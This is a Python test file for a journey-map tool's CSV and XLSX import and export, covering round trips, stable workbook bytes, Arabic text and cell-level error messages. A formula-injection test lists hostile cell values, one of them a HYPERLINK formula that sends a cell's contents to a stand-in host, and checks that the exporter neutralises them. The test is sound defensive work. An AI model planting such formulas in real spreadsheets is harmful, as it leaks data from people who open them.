"""Touchpoint tables: export then import gives the same journey, XLSX bytes are stable, and every bad
input is a diagnostic at its cell (or a clear unreadable-input error), never a traceback."""

from __future__ import annotations

import io
import time
import zipfile
from pathlib import Path
from typing import Any

import pytest

from journeymap.api import read
from journeymap.interchange.csv_table import read_csv, write_csv
from journeymap.interchange.xlsx import read_xlsx, write_xlsx
from journeymap.model import Journey
from tests.conftest import EXAMPLES, assert_no_traceback, run_cli

EXAMPLE_FILES = sorted(EXAMPLES.glob("*.yaml"))  # current and future states


def _measures(metrics: Any) -> list[tuple[str, float, str, int | None]]:
    """What a metric is: its value, unit and sample size (a value computed from raw answers comes back
    as that value with its sample size, as ``Journey.to_yaml`` writes it)."""
    return [(name, round(m.value, 6), m.unit, m.responses) for name, m in metrics.items()]


def equivalent(journey: Journey) -> list[Any]:
    """Stages, touchpoints, channels, emotions, metrics and targets: what a round trip must keep."""
    out: list[Any] = [[(c.id, c.name, c.kind) for c in journey.channels]]
    for stage in journey.stages:
        out.append((stage.id, stage.name))
        for tp in stage.touchpoints:
            feelings = {p.id: e.score for p in journey.personas if tp.emotion and (e := tp.emotion.for_persona(p.id))}
            out.append(
                (
                    tp.id, tp.name, tp.channel, tp.action, tp.owner, tp.personas, feelings,
                    _measures(tp.metrics), _measures(tp.targets), tp.pain_points, tp.opportunities,
                    tp.next, tp.moment_of_truth, tp.step, tp.proactive, tp.volume, tp.handoffs, tp.notes,
                )
            )  # fmt: skip
    return out


@pytest.mark.parametrize("example", EXAMPLE_FILES, ids=[p.stem for p in EXAMPLE_FILES])
def test_csv_round_trip(example: Path, tmp_path: Path) -> None:
    journey = read(str(example))
    table = tmp_path / "touchpoints.csv"
    assert run_cli("export", example, "-o", table).code == 0
    result = run_cli("import", table, "-o", tmp_path / "back.yaml", "--title", journey.info.title)
    assert result.code == 0, result.output
    assert result.stderr.count("warning[") == 0, result.stderr
    back = read(str(tmp_path / "back.yaml"))
    assert equivalent(back) == equivalent(journey)
    assert back.info.language == journey.info.language  # Arabic text: ar, read right to left


@pytest.mark.parametrize("example", EXAMPLE_FILES, ids=[p.stem for p in EXAMPLE_FILES])
def test_xlsx_round_trip(example: Path, tmp_path: Path) -> None:
    journey = read(str(example))
    table = tmp_path / "touchpoints.xlsx"
    assert run_cli("export", example, "-o", table).code == 0
    result = run_cli("import", table, "-o", tmp_path / "back.yaml")
    assert result.code == 0, result.output
    back = read(str(tmp_path / "back.yaml"))
    assert equivalent(back) == equivalent(journey)
    assert (back.info.title, back.info.language) == (journey.info.title, journey.info.language)


def test_arabic_text_round_trips_byte_for_byte() -> None:
    journey = read(str(EXAMPLES / "bank-account-opening-ar.yaml"))
    again = read_csv(write_csv(journey).decode("utf-8-sig"), "t.csv").journey
    assert again is not None
    names = [tp.name for _, tp in journey.touchpoints()]
    assert [tp.name for _, tp in again.touchpoints()] == names
    assert write_csv(again) == write_csv(journey)  # the table of the imported journey is the same table


def test_csv_starts_with_a_byte_order_mark_for_excel() -> None:
    data = write_csv(read(str(EXAMPLES / "bank-account-opening-ar.yaml")))
    assert data.startswith(b"\xef\xbb\xbfstage,stage name,touchpoint id,touchpoint,channel")
    assert b"\r\n" in data


def test_xlsx_is_the_same_bytes_every_time() -> None:
    journey = read(str(EXAMPLES / "first-purchase.yaml"))
    first = write_xlsx(journey)
    time.sleep(1.1)  # a ZIP entry's time has two-second steps; core.xml has seconds
    assert write_xlsx(journey) == first
    with zipfile.ZipFile(io.BytesIO(first)) as book:
        assert {info.date_time for info in book.infolist()} == {(2000, 1, 1, 0, 0, 0)}
        assert b"2000-01-01T00:00:00Z</dcterms:modified>" in book.read("docProps/core.xml")


def test_xlsx_of_an_arabic_journey_reads_right_to_left() -> None:
    from openpyxl import load_workbook

    book = load_workbook(io.BytesIO(write_xlsx(read(str(EXAMPLES / "bank-account-opening-ar.yaml")))))
    sheet = book["touchpoints"]
    assert sheet.sheet_view.rightToLeft
    assert book.properties.language == "ar"


def test_export_says_what_the_table_leaves_out(tmp_path: Path) -> None:
    result = run_cli("export", EXAMPLES / "first-purchase.yaml", "-o", tmp_path / "t.csv")
    assert result.code == 0
    assert "leaves out" in result.stderr
    assert "persona details" in result.stderr


def test_export_of_an_invalid_journey_exits_1(tmp_path: Path) -> None:
    bad = tmp_path / "bad.yaml"
    bad.write_text("version: 1\njourney: {title: x}\n", encoding="utf-8")
    result = run_cli("export", bad, "-o", tmp_path / "t.csv")
    assert_no_traceback(result)
    assert result.code == 1
    assert "error[JM101]" in result.stderr
    assert not (tmp_path / "t.csv").exists()
    assert run_cli("export", tmp_path / "missing.yaml", "-o", tmp_path / "t.csv").code == 2


def test_export_never_replaces_its_input(tmp_path: Path) -> None:
    source = tmp_path / "j.yaml"
    source.write_bytes((EXAMPLES / "first-purchase.yaml").read_bytes())
    result = run_cli("export", source, "-o", source, "--format", "csv")
    assert result.code == 2
    assert source.read_bytes() == (EXAMPLES / "first-purchase.yaml").read_bytes()


def test_control_characters_become_visible_escapes_in_a_workbook(tmp_path: Path) -> None:
    """XLSX cannot hold control characters (found by the fuzz campaign: an ANSI colour code in a name)."""
    source = tmp_path / "j.yaml"
    source.write_text(
        "version: 1\njourney: {title: T}\npersonas: [{id: p, name: P}]\nstages:\n  - id: purchase\n"
        '    name: Purchase\n    touchpoints:\n      - {id: t, name: "Roses \\e[31mred", channel: web}\n',
        encoding="utf-8",
    )
    target = tmp_path / "t.xlsx"
    result = run_cli("export", source, "-o", target)
    assert_no_traceback(result)
    assert result.code == 0, result.output
    from openpyxl import load_workbook

    sheet = load_workbook(target).active
    assert sheet is not None
    cells = [c.value for row in sheet.iter_rows() for c in row if isinstance(c.value, str)]
    assert "Roses \\u001b[31mred" in cells


# -- formula injection --------------------------------------------------------------------------------

HOSTILE = ['=HYPERLINK("http://x.test/?"&A1,"click")', "+1+2", "-2+3", "@SUM(A1:A2)", "'=already quoted"]


def _hostile_journey(tmp_path: Path) -> Path:
    lines = ["version: 1", "journey: {title: Hostile}", "personas: [{id: p, name: P}]", "stages:", "  - id: s",
             "    name: S", "    touchpoints:"]  # fmt: skip
    for index, name in enumerate(HOSTILE):
        lines += [f"      - id: t{index}", f"        name: {name!r}".replace("\\'", "''"), "        channel: web"]
        lines += [f"        pain_points: [{name!r}]", "        metrics: {nps: -12}"]
    path = tmp_path / "hostile.yaml"
    path.write_text("\n".join(lines) + "\n", encoding="utf-8")
    return path


def test_formula_like_text_is_neutralised_and_comes_back(tmp_path: Path) -> None:
    source = _hostile_journey(tmp_path)
    journey = read(str(source))
    assert [tp.name for _, tp in journey.touchpoints()] == HOSTILE
    data = write_csv(journey).decode("utf-8-sig")
    import csv

    cells = [cell for row in csv.reader(io.StringIO(data, newline="")) for cell in row]
    assert not [c for c in cells if c[:1] in ("=", "+", "@") or (c.startswith("-") and c != "-12")]
    back = read_csv(data, "h.csv").journey
    assert back is not None
    assert [tp.name for _, tp in back.touchpoints()] == HOSTILE
    assert [tp.pain_points for _, tp in back.touchpoints()] == [[h] for h in HOSTILE]

    from openpyxl import load_workbook

    book = load_workbook(io.BytesIO(write_xlsx(journey)))
    formulas = [c.coordinate for row in book["touchpoints"].iter_rows() for c in row if c.data_type == "f"]
    assert formulas == []
    again = read_xlsx(write_xlsx(journey), "h.xlsx").journey
    assert again is not None
    assert [tp.name for _, tp in again.touchpoints()] == HOSTILE


# -- bad input ------------------------------------------------------------------------------------------

HEADER = "stage,touchpoint,channel,emotion,csat,target csat,pain points\n"


def _import_csv(tmp_path: Path, text: str, *args: str) -> Any:
    path = tmp_path / "touchpoints.csv"
    path.write_text(text, encoding="utf-8")
    result = run_cli("import", path, "-o", tmp_path / "out.yaml", *args)
    assert_no_traceback(result)
    return result


def test_bad_cells_are_errors_at_row_and_column(tmp_path: Path) -> None:
    text = HEADER + "awareness,Ad,social,4,,,\npurchase,Checkout,webb,furious-ish,71%,abc,\n"
    result = _import_csv(tmp_path, text)
    assert result.code == 1
    assert f"{tmp_path / 'touchpoints.csv'}:3:3: error[JM716] unknown channel 'webb'" in result.stderr
    assert "hint: did you mean 'web'?" in result.stderr
    assert ":3:4: error[JM716]" in result.stderr  # the emotion
    assert ":3:6: error[JM716] csat" in result.stderr  # the target
    assert not (tmp_path / "out.yaml").exists()


def test_a_small_table_imports(tmp_path: Path) -> None:
    text = (
        HEADER
        + 'awareness,Ad,social,4,,,"Too loud\nToo often"\n'
        + ",Landing page,Website,3,71%,85%,\n"  # blank stage: the row above's; a channel by its name
        + "Purchase,Checkout,web,frustrated,,,\n"
    )
    result = _import_csv(tmp_path, text, "--title", "Small")
    assert result.code == 0, result.output
    journey = read(str(tmp_path / "out.yaml"))
    assert [(s.id, s.name, [t.id for t in s.touchpoints]) for s in journey.stages] == [
        ("awareness", "awareness", ["ad", "landing-page"]),
        ("Purchase", "Purchase", ["checkout"]),
    ]
    ad = journey.stages[0].touchpoints[0]
    assert ad.pain_points == ["Too loud", "Too often"]
    assert journey.stages[0].touchpoints[1].channel == "web"
    assert [p.id for p in journey.personas] == ["customer"]


def test_arabic_headers_and_semicolons(tmp_path: Path) -> None:
    text = "المرحلة;اسم المرحلة;نقطة الاتصال;القناة;الشعور;نقاط الألم\nawareness;الوعي;إعلان;social;محبطة;طويل\n"
    result = _import_csv(tmp_path, text, "--title", "فتح حساب")
    assert result.code == 0, result.output
    journey = read(str(tmp_path / "out.yaml"))
    tp = journey.stages[0].touchpoints[0]
    assert (journey.info.language, journey.stages[0].name, tp.name, tp.pain_points) == (
        "ar",
        "الوعي",
        "إعلان",
        ["طويل"],
    )
    assert journey.emotion(tp) == 2


def test_header_aliases_are_case_insensitive(tmp_path: Path) -> None:
    text = "Stage Name,TOUCHPOINT_NAME,Channel,Emotion Sara,Waiting Time,Waiting-Time Target\nBuy,Pay,web,4,2m,1m\n"
    result = _import_csv(tmp_path, text)
    assert result.code == 0, result.output
    journey = read(str(tmp_path / "out.yaml"))
    tp = journey.stages[0].touchpoints[0]
    assert journey.personas[0].id == "Sara"
    assert (tp.metrics.waiting_time.value, tp.targets.waiting_time.value) == (120, 60)  # type: ignore[union-attr]


def test_missing_columns_unknown_and_repeated_ones(tmp_path: Path) -> None:
    missing = _import_csv(tmp_path, "stage,touchpoint\nawareness,Ad\n")
    assert missing.code == 1
    assert ":1:1: error[JM715] no 'channel' column" in missing.stderr
    unknown = _import_csv(tmp_path, "stage,touchpoint,channel,colour\nawareness,Ad,web,red\n", "--force")
    assert unknown.code == 0
    assert ":1:4: warning[JM717] unknown column 'colour'" in unknown.stderr
    twice = _import_csv(tmp_path, "stage,touchpoint,channel,Channel\nawareness,Ad,web,web\n", "--force")
    assert twice.code == 1
    assert ":1:4: error[JM718]" in twice.stderr


def test_empty_tables(tmp_path: Path) -> None:
    assert "error[JM714] the table is empty" in _import_csv(tmp_path, "").stderr
    header_only = _import_csv(tmp_path, "stage,touchpoint,channel\n\n")
    assert header_only.code == 1
    assert "error[JM714]" in header_only.stderr


def test_xlsx_cells_are_named_as_excel_names_them(tmp_path: Path) -> None:
    from openpyxl import Workbook

    book = Workbook()
    sheet = book.active
    assert sheet is not None
    sheet.title = "Sheet1"
    for row in (["stage", "touchpoint", "channel", "emotion"], ["awareness", "Ad", "social", 4],
                ["awareness", "Search", "ads", 9]):  # fmt: skip
        sheet.append(row)
    path = tmp_path / "touchpoints.xlsx"
    book.save(path)
    result = run_cli("import", path, "-o", tmp_path / "out.yaml")
    assert result.code == 1
    assert f"{path}:Sheet1!D3: error[JM716] emotion 9 is outside the 1-5 scale" in result.stderr
    wrong = run_cli("import", path, "--sheet", "Checkout", "-o", tmp_path / "out.yaml")
    assert_no_traceback(wrong)
    assert wrong.code == 2
    assert "no sheet 'Checkout'" in wrong.stderr
    assert "Sheet1" in wrong.stderr


@pytest.mark.parametrize(
    "content",
    [b"stage,touchpoint,channel\n", b"", "truncated"],
    ids=["csv-text-named-xlsx", "empty-file", "truncated-workbook"],
)
def test_corrupt_workbooks_are_unreadable_input(tmp_path: Path, content: bytes | str) -> None:
    if content == "truncated":
        whole = write_xlsx(read(str(EXAMPLES / "first-purchase.yaml")))
        content = whole[: len(whole) // 2]
    assert isinstance(content, bytes)
    path = tmp_path / "touchpoints.xlsx"
    path.write_bytes(content)
    result = run_cli("import", path, "-o", tmp_path / "out.yaml")
    assert_no_traceback(result)
    assert result.code == 2, result.output
    assert "error[JM713] cannot read the file as XLSX" in result.stderr


def test_a_table_whose_journey_does_not_validate_is_jm719(tmp_path: Path) -> None:
    text = "stage,touchpoint,channel,next,target csat\nawareness,Ad,social,nowhere,80%\n"
    result = _import_csv(tmp_path, text)
    assert result.code == 1
    assert "error[JM719] the imported journey does not validate: unknown touchpoint 'nowhere'" in result.stderr
    assert "(JM203)" in result.stderr
    assert "(JM204)" in result.stderr
    assert not (tmp_path / "out.yaml").exists()


def test_export_formats_from_extension_and_stdout(tmp_path: Path) -> None:
    example = EXAMPLES / "telecom-support.yaml"
    assert run_cli("export", example, "-o", tmp_path / "t.xlsx").code == 0
    assert zipfile.is_zipfile(tmp_path / "t.xlsx")
    csv_out = run_cli("export", example, "-o", "-")
    assert csv_out.code == 0
    assert csv_out.stdout.lstrip("\ufeff").startswith("stage,stage name,touchpoint id,touchpoint,channel")
    mermaid = run_cli("export", example, "-o", tmp_path / "t.mmd")
    assert mermaid.code == 0
    assert (tmp_path / "t.mmd").read_text(encoding="utf-8").startswith("journey\n")


def test_persona_names_in_emotion_headers(tmp_path: Path) -> None:
    text = "stage,touchpoint,channel,Emotion (Sara Ahmed),emotion: omar\nbuy,Pay,web,4,frustrated\n"
    result = _import_csv(tmp_path, text)
    assert result.code == 0, result.output
    journey = read(str(tmp_path / "out.yaml"))
    assert [(p.id, p.name) for p in journey.personas] == [("sara-ahmed", "Sara Ahmed"), ("omar", "omar")]
    tp = journey.stages[0].touchpoints[0]
    assert journey.emotion(tp, "omar") == 2
    assert journey.emotion(tp, "sara-ahmed") == 4


def test_a_sheet_with_too_many_rows_is_refused(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    from journeymap.interchange import xlsx

    monkeypatch.setattr(xlsx, "MAX_ROWS", 3)
    data = write_xlsx(read(str(EXAMPLES / "first-purchase.yaml")))
    imported = read_xlsx(data, "big.xlsx")
    assert imported.journey is None
    assert [(d.code, d.message) for d in imported.diagnostics] == [("JM713", "the sheet has more than 3 rows")]


def test_workbook_properties_from_elsewhere(tmp_path: Path) -> None:
    from openpyxl import Workbook

    book = Workbook()
    sheet = book.active
    assert sheet is not None
    sheet.append(["Stage", "Touchpoint", "Channel"])
    sheet.append(["الوعي", "إعلان", "social"])
    book.properties.title = "  "
    book.properties.language = "Arabic (Saudi Arabia)"  # not a language tag: the text decides
    path = tmp_path / "رحلة.xlsx"
    book.save(path)
    result = run_cli("import", path, "-o", tmp_path / "out.yaml")
    assert result.code == 0, result.output
    journey = read(str(tmp_path / "out.yaml"))
    assert (journey.info.title, journey.info.language) == ("رحلة", "ar")
    assert journey.stages[0].id == "الوعي"


def test_outputs_must_say_what_they_are(tmp_path: Path) -> None:
    unknown = run_cli("export", EXAMPLES / "first-purchase.yaml", "-o", tmp_path / "t.yaml")
    assert unknown.code == 2
    assert "cannot tell the format" in unknown.stderr
    assert not (tmp_path / "t.yaml").exists()
    table = tmp_path / "t.csv"
    assert run_cli("export", EXAMPLES / "first-purchase.yaml", "-o", table).code == 0
    not_yaml = run_cli("import", table, "-o", tmp_path / "back.csv")
    assert not_yaml.code == 2
    assert "import writes a journey" in not_yaml.stderr


def test_a_table_read_from_stdin_is_titled_in_its_language() -> None:
    from journeymap.interchange.csv_table import read_csv

    arabic = read_csv("المرحلة,نقطة الاتصال,القناة\nالوعي,إعلان,web\n", "-")
    assert arabic.journey is not None, arabic.diagnostics
    assert arabic.journey.info.title == "رحلة مستوردة"
    english = read_csv("stage,touchpoint,channel\nawareness,ad,web\n", "-")
    assert english.journey is not None
    assert english.journey.info.title == "Imported journey"
